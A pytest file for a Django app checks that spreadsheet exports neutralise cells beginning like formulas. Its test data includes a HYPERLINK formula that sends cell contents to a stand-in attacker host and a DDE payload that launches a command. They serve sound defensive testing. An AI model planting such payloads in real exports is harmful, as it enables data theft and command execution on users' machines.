"""``core/exports.py``: no exported cell runs as a spreadsheet formula."""

from __future__ import annotations

import pytest
import tablib
from django.contrib import admin
from import_export.admin import ExportMixin

from core import exports

HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "value",
    [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
)
def test_a_cell_that_starts_like_a_formula_becomes_text(value):
    assert exports.cell_neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Asha Learner", "900.00", "-90.00", "12", "", 12, -3, None, "a=b", "2031-01-01"])
def test_other_cells_are_left_alone(value):
    assert exports.cell_neutralise(value) == value


@pytest.mark.parametrize("fmt", exports.EXPORT_FORMATS, ids=lambda fmt: fmt.__name__)
def test_every_admin_export_format_neutralises_its_cells(fmt):
    dataset = tablib.Dataset(["Asha", HOSTILE, "@x"], headers=["name", "evil", "at"])
    exported = fmt().export_data(dataset)
    loaded = fmt().create_dataset(exported)
    assert list(loaded[0]) == ["Asha", "'" + HOSTILE, "'@x"]


def test_every_admin_that_exports_offers_only_neutralising_formats():
    exporting = {
        model: model_admin
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, ExportMixin)
    }
    assert exporting, "no admin exports anything: this test walks nothing"
    for model, model_admin in exporting.items():
        formats = model_admin.get_export_formats()
        assert formats, model
        assert all(issubclass(fmt, exports._Neutralising) for fmt in formats), (model, formats)
